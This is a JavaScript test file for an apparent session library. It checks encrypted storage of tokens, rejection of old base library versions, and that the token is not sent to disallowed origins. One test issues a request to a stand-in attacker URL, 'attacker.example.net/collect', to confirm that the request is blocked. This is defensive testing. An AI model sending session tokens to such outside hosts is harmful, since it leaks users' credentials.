'use strict'
// Security: encryption at rest, and where tokens may travel.
const test = require('node:test')
const assert = require('node:assert/strict')
const { worldPerFile, settle } = require('./fixture')

const world = worldPerFile()

test('encryptStorage keeps the session encrypted at rest, and a restart still reads it', async () => {
  const storageFile = world.newStorage()
  const first = world.open({ storageFile })
  const session = await world.session(first, { encryptStorage: true }).launch()

  const raw = first.storage.raw('mp-session:default')
  assert.ok(raw.includes('encrypted'), raw)
  assert.ok(!raw.includes(session.token) && !raw.includes(session.openid), 'no plain token or openid on disk')

  const again = world.open({ storageFile })
  const cached = await world.session(again, { encryptStorage: true }).launch()
  assert.equal(cached.source, 'cache')
  assert.equal(cached.token, session.token)
  assert.equal(again.stats.logins, 0)

  await world.session(again, { encryptStorage: true }).logout()
  assert.equal(again.storage.raw('mp-session:default'), undefined)
})

test('encryptStorage on a base library older than 2.21.3 is a clear INVALID_CONFIG, not plain storage', async () => {
  const app = world.open({ baseLibrary: '2.20.1' })
  const { error } = await settle(world.session(app, { encryptStorage: true }).launch())
  assert.equal(error.code, 'INVALID_CONFIG')
  assert.match(error.message, /encryptStorage needs base library 2\.21\.3 or later \(this one is 2\.20\.1\)/)
  assert.equal(app.stats.logins, 0)
  assert.deepEqual(app.storage.dump(), {})
})

test('a request to a URL outside allowedOrigins never carries the token', async () => {
  const app = world.open()
  const session = world.session(app)
  await session.launch()
  const { error } = await settle(session.request({ url: 'https://attacker.example.net/collect' }))
  assert.equal(error.code, 'INVALID_ARGUMENT')
  assert.match(error.message, /allowedOrigins/)
})

test('no unhandled promise rejection anywhere in this file', () => {
  assert.deepEqual(world.unhandled, [])
})
